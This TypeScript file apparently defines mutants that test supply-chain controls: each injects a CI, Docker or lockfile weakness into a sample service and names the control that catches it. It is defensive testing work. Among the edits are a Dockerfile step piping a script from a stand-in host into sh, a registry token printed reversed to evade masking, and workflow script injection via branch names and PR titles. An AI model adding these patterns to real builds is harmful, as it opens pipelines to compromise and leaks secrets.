import { createHash } from 'node:crypto';
import type { Mutant } from './mutant';

const workflow = '.github/workflows/ci.yml';
const tarball = 'vendor/ameideio-ameide-sdk-ts-0.1.0.tgz';
const swapped = 'a package that only looks like the SDK\n';

const replace = (from: string | RegExp, to: string) => (text: string) =>
  text.replace(from, to);

function withIntegrityOfSwapped(text: string): string {
  const integrity = `sha512-${createHash('sha512')
    .update(swapped)
    .digest('base64')}`;
  return text.replace(
    /("resolved": "file:[^"]*ameide-sdk[^"]*",\s*"integrity": ")[^"]*/,
    `$1${integrity}`,
  );
}

/** Sabotages of what a service is built from, and of what builds it. */
export const supplyMutants: readonly Mutant[] = [
  {
    id: 'lockfile-of-tools-deleted',
    title: 'the linters are installed without a lockfile',
    caseName: 'orders',
    edits: { 'tools/package-lock.json': null },
    caughtBy: { control: 'SUP-01' },
  },
  {
    id: 'dependency-beside-the-lockfile',
    title:
      'a dependency is added by hand, and the lockfile knows nothing of it',
    caseName: 'orders',
    edits: {
      'package.json': replace(
        '"@bufbuild/protobuf":',
        '"left-pad": "^1.3.0",\n    "@bufbuild/protobuf":',
      ),
    },
    caughtBy: { control: 'SUP-01' },
  },
  {
    id: 'integrity-removed',
    title: 'one package of the lockfile has lost its digest',
    caseName: 'orders',
    edits: {
      'package-lock.json': replace(
        /("node_modules\/zod": \{\s*"version": "[^"]*",)\s*"integrity": "[^"]*",/,
        '$1',
      ),
    },
    caughtBy: { control: 'SUP-02' },
  },
  {
    id: 'package-from-another-host',
    title:
      'one package of the lockfile is fetched from elsewhere, its digest with it',
    caseName: 'orders',
    edits: {
      'package-lock.json': replace(
        /("node_modules\/zod": \{)/,
        '$1\n      "resolved": "https://registry.npmjs.org.mirror.example/zod.tgz",',
      ),
    },
    caughtBy: { control: 'SUP-03' },
  },
  {
    id: 'dependency-from-a-branch',
    title: 'a dependency is a branch of somebody',
    caseName: 'orders',
    edits: {
      'package.json': replace(
        /"yaml": "[^"]*"/,
        '"yaml": "github:somebody/yaml#main"',
      ),
    },
    caughtBy: { control: 'SUP-03' },
  },
  {
    id: 'install-scripts-on',
    title: 'packages may run code while they are installed',
    caseName: 'orders',
    edits: { '.npmrc': replace('ignore-scripts=true', 'ignore-scripts=false') },
    caughtBy: { control: 'SUP-04' },
  },
  {
    id: 'install-scripts-on-in-the-image',
    title: 'the image is built with install scripts, whatever .npmrc says',
    caseName: 'orders',
    edits: {
      Dockerfile: replace(
        'RUN npm ci',
        'RUN npm_config_ignore_scripts=false npm ci',
      ),
    },
    caughtBy: { control: 'SUP-04' },
  },
  {
    id: 'registry-without-verification',
    title: "the registry's certificate is not verified",
    caseName: 'orders',
    edits: { '.npmrc': text => `${text}strict-ssl=false\n` },
    caughtBy: { control: 'SUP-05' },
  },
  {
    id: 'registry-of-somebody',
    title: 'the linters come from another registry',
    caseName: 'orders',
    edits: {
      'tools/.npmrc': text => `${text}registry=https://npm.mirror.example/\n`,
    },
    caughtBy: { control: 'SUP-05' },
  },
  {
    id: 'sdk-exchanged',
    title: 'the vendored SDK is exchanged, and the lockfile made to agree',
    caseName: 'orders',
    edits: {
      [tarball]: () => swapped,
      'package-lock.json': withIntegrityOfSwapped,
    },
    caughtBy: { control: 'SUP-06' },
  },
  {
    id: 'dependency-of-any-version',
    title:
      'a dependency takes whatever is published, and the lockfile says so too',
    caseName: 'orders',
    edits: {
      'package.json': replace(
        /"@connectrpc\/connect": "[^"]*"/,
        '"@connectrpc/connect": ">=2"',
      ),
      'package-lock.json': replace(
        /"@connectrpc\/connect": "[^"]*"/,
        '"@connectrpc/connect": ">=2"',
      ),
    },
    caughtBy: { control: 'SUP-07' },
  },
  {
    id: 'base-image-by-tag',
    title: 'the base image is a tag by default',
    caseName: 'orders',
    edits: {
      Dockerfile: replace('ARG NODE_IMAGE\n', 'ARG NODE_IMAGE=node:22-slim\n'),
    },
    caughtBy: { control: 'SUP-08' },
  },
  {
    id: 'digest-of-the-base-unchecked',
    title: 'nothing stops a build whose base image has no digest',
    caseName: 'orders',
    edits: {
      Dockerfile: replace(/RUN case [^\n]*\n/, ''),
      [workflow]: replace(/^.*"\$NODE_IMAGE" =~.*\n/m, ''),
    },
    caughtBy: { control: 'SUP-08' },
  },
  {
    id: 'image-as-root',
    title: 'the image runs as root again, after it had a user',
    caseName: 'orders',
    edits: { Dockerfile: text => `${text}USER root\n` },
    caughtBy: { control: 'SUP-09' },
  },
  {
    id: 'image-without-user',
    title: 'only the stage that builds has a user',
    caseName: 'orders',
    edits: {
      Dockerfile: text =>
        text
          .replace('USER 65532:65532\n', '')
          .replace('COPY src src\n', 'COPY src src\nUSER 65532:65532\n'),
    },
    caughtBy: { control: 'SUP-09' },
  },
  {
    id: 'script-from-the-internet',
    title: 'the image is built with a script from an address',
    caseName: 'orders',
    edits: {
      Dockerfile: replace(
        'WORKDIR /app\n',
        'WORKDIR /app\nRUN wget -qO- https://get.tool.example | sh -s -- --quiet\n',
      ),
    },
    caughtBy: { control: 'SUP-10' },
  },
  {
    id: 'install-instead-of-ci',
    title: 'CI installs what is newest instead of what the lockfile says',
    caseName: 'orders',
    edits: {
      [workflow]: replace('npm ci --no-audit', 'npm install --no-audit'),
    },
    caughtBy: { control: 'SUP-10' },
  },
  {
    id: 'token-as-build-argument',
    title: 'the token of the registry is an argument of the build',
    caseName: 'orders',
    edits: {
      Dockerfile: replace('WORKDIR /app\n', 'WORKDIR /app\nARG NPM_TOKEN\n'),
    },
    caughtBy: { control: 'SUP-11' },
  },
  {
    id: 'everything-into-the-image',
    title:
      'the whole working copy is copied into the image, history and settings too',
    caseName: 'orders',
    edits: {
      Dockerfile: replace('COPY src src\n', 'COPY . .\n'),
      '.dockerignore': () => 'node_modules\n!.git\n',
    },
    caughtBy: { control: 'SUP-12' },
  },
  {
    id: 'action-by-tag',
    title: 'an action is named by its tag',
    caseName: 'orders',
    edits: {
      [workflow]: replace(
        /actions\/setup-node@\w+ # v4\.4\.0/,
        'actions/setup-node@v4',
      ),
    },
    caughtBy: { control: 'SUP-13' },
  },
  {
    id: 'token-of-ci-may-everything',
    title: 'every job of CI may write everything',
    caseName: 'orders',
    edits: { [workflow]: replace('permissions: {}', 'permissions: write-all') },
    caughtBy: { control: 'SUP-14' },
  },
  {
    id: 'publishing-for-a-pull-request',
    title: 'a pull request pushes an image',
    caseName: 'orders',
    edits: { [workflow]: replace("    if: github.event_name == 'push'\n", '') },
    caughtBy: { control: 'SUP-14' },
  },
  {
    id: 'code-of-strangers-with-secrets',
    title:
      'a workflow with the secrets of the repository tests what strangers propose',
    caseName: 'orders',
    edits: {
      '.github/workflows/preview.yml': `on: pull_request_target
permissions: {}
jobs:
  preview:
    runs-on: ubuntu-24.04
    permissions:
      contents: read
    steps:
      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
        with:
          persist-credentials: false
          ref: \${{ github.event.pull_request.head.sha }}
      - run: npm ci && npm test
`,
    },
    caughtBy: { control: 'SUP-15' },
  },
  {
    id: 'branch-name-in-a-script',
    title: 'the name of a branch is pasted into a script',
    caseName: 'orders',
    edits: {
      [workflow]: replace(
        'run: npm --prefix tools run breaking',
        'run: npm --prefix tools run breaking -- "${{ github.head_ref }}"',
      ),
    },
    caughtBy: { control: 'SUP-16' },
  },
  {
    id: 'title-in-a-script-by-a-variable',
    title:
      'a title reaches a script by a variable that is pasted as an expression',
    caseName: 'orders',
    edits: {
      [workflow]: text =>
        text
          .replace(
            'BREAKING_BASE: origin/${{ github.base_ref }}',
            "BREAKING_BASE: origin/${{ github.base_ref }}\n          ABOUT: ${{ github.event['pull_request']['title'] }}",
          )
          .replace(
            'run: npm --prefix tools run breaking',
            'run: echo "${{ env.ABOUT }}" && npm --prefix tools run breaking',
          ),
    },
    caughtBy: { control: 'SUP-16' },
  },
  {
    id: 'secret-for-every-step',
    title:
      'the token of the registry is given to every step, dependencies included',
    caseName: 'orders',
    edits: {
      [workflow]: replace(
        '    env:\n      # Variables of the repository',
        '    env:\n      REGISTRY_TOKEN: ${{ secrets.GITHUB_TOKEN }}\n      # Variables of the repository',
      ),
    },
    caughtBy: { control: 'SUP-17' },
  },
  {
    id: 'secret-printed-in-disguise',
    title: 'a step prints a secret in a form that nothing masks',
    caseName: 'orders',
    edits: {
      [workflow]: replace(
        '          docker logout',
        '          echo "$REGISTRY_TOKEN" | rev\n          docker logout',
      ),
    },
    caughtBy: { control: 'SUP-17' },
  },
  {
    id: 'token-left-in-the-working-copy',
    title: 'the checkout of the tests keeps its token beside the dependencies',
    caseName: 'orders',
    edits: {
      [workflow]: replace('          persist-credentials: false\n', ''),
    },
    caughtBy: { control: 'SUP-18' },
  },
  {
    id: 'tests-dropped-from-ci',
    title: 'CI no longer runs the tests',
    caseName: 'orders',
    edits: { [workflow]: replace('      - run: npm test\n', '') },
    caughtBy: { control: 'SUP-19' },
  },
  {
    id: 'database-left-out-of-ci',
    title: 'changes of the database start no test',
    caseName: 'orders',
    edits: {
      [workflow]: replace(
        '  pull_request:\n',
        "  pull_request:\n    paths-ignore: ['db/**']\n",
      ),
    },
    caughtBy: { control: 'SUP-19' },
  },
  {
    id: 'contract-never-compared',
    title:
      'the comparison of the contract runs only where there is nothing to compare',
    caseName: 'orders',
    edits: {
      [workflow]: replace(
        "if: github.event_name == 'pull_request'",
        "if: github.event_name != 'pull_request'",
      ),
    },
    caughtBy: { control: 'SUP-19' },
  },
  {
    id: 'failing-tests-forgiven',
    title: 'tests may fail',
    caseName: 'orders',
    edits: {
      [workflow]: replace('- run: npm test\n', '- run: npm test || true\n'),
    },
    caughtBy: { control: 'SUP-20' },
  },
  {
    id: 'failing-lint-forgiven-by-its-step',
    title: 'the linters may fail',
    caseName: 'orders',
    edits: {
      [workflow]: replace(
        '      - run: npm run lint\n',
        '      - run: npm run lint\n        continue-on-error: true\n',
      ),
    },
    caughtBy: { control: 'SUP-20' },
  },
  {
    id: 'test-script-without-tests',
    title: 'the script that CI calls tests nothing',
    caseName: 'orders',
    edits: {
      'package.json': replace(/"test": "[^"]*"/, '"test": "echo done; exit 0"'),
    },
    caughtBy: { control: 'SUP-20' },
  },
  {
    id: 'own-runner-for-strangers',
    title: 'pull requests run on a machine that is kept',
    caseName: 'orders',
    edits: {
      [workflow]: replace(
        'runs-on: ubuntu-24.04',
        'runs-on: [self-hosted, linux]',
      ),
    },
    caughtBy: { control: 'SUP-21' },
  },
  {
    id: 'migrations-without-owner',
    title: 'a later rule takes the owner of the migrations away',
    caseName: 'orders',
    edits: { CODEOWNERS: text => `${text}/db/\n` },
    caughtBy: { control: 'SUP-22' },
  },
  {
    id: 'vulnerability-overlooked',
    title:
      'a scanner is told to overlook a weakness, for ever and without a reason',
    caseName: 'orders',
    edits: { '.trivyignore': 'CVE-2026-21234\n' },
    caughtBy: { control: 'SUP-23' },
  },
  {
    id: 'inside-of-the-sdk',
    title: 'a handler takes the pool from the inside of the SDK',
    caseName: 'orders',
    edits: {
      'src/order/store.ts': text =>
        `import { createPool } from '@ameideio/ameide-sdk-ts/dist/node/database/pool.js';\nvoid createPool;\n${text}`,
    },
    caughtBy: { control: 'SUP-24' },
  },
  {
    id: 'test-keys-in-production',
    title: 'the service starts with the keys of the test kit',
    caseName: 'orders',
    edits: {
      'src/main.ts': text =>
        `import { startTestService } from '@ameideio/ameide-sdk-ts/testing';\nvoid startTestService;\n${text}`,
    },
    caughtBy: { control: 'SUP-24' },
  },
  {
    id: 'undeclared-package',
    title: 'code imports a package that only happens to be installed',
    caseName: 'orders',
    edits: {
      'src/dates.ts': text =>
        `${text}\nexport const load = () => import('pg');\n`,
    },
    caughtBy: { control: 'SUP-24' },
  },
  {
    id: 'workflow-that-nobody-can-read',
    title: 'a second workflow is written so that no check can read it',
    caseName: 'orders',
    edits: { '.github/workflows/second.yml': 'on: push\njobs: { a: {\n' },
    caughtBy: { control: 'SUP-25' },
  },
  {
    id: 'published-without-provenance',
    title: 'the contract is published as a package by a plain token',
    caseName: 'orders',
    edits: {
      '.github/workflows/publish.yml':
        'on: { push: { tags: [v*] } }\npermissions: {}\njobs:\n  publish:\n    runs-on: ubuntu-24.04\n    permissions: { contents: read }\n    steps:\n      - run: npm publish --access public\n',
    },
    caughtBy: { control: 'SUP-26' },
  },
  {
    id: 'shell-that-goes-on',
    title: 'the shell of a job goes on after a failure',
    caseName: 'orders',
    edits: {
      [workflow]: replace(
        '    timeout-minutes: 20\n',
        '    timeout-minutes: 20\n    defaults:\n      run:\n        shell: bash {0}\n',
      ),
    },
    caughtBy: { control: 'SUP-20' },
  },
  {
    id: 'test-skipped',
    title: 'a test of the manifests is skipped',
    caseName: 'orders',
    edits: {
      'test/manifests-secrets.test.ts': replace(
        "  it('writes no secret down'",
        "  it.skip('writes no secret down'",
      ),
    },
    caughtBy: { control: 'SUP-27' },
  },
  {
    id: 'isolation-never-attacked',
    title: 'the suite that attacks the isolation is no longer called',
    caseName: 'orders',
    edits: { 'test/isolation.test.ts': null },
    caughtBy: { control: 'SUP-28' },
  },
];
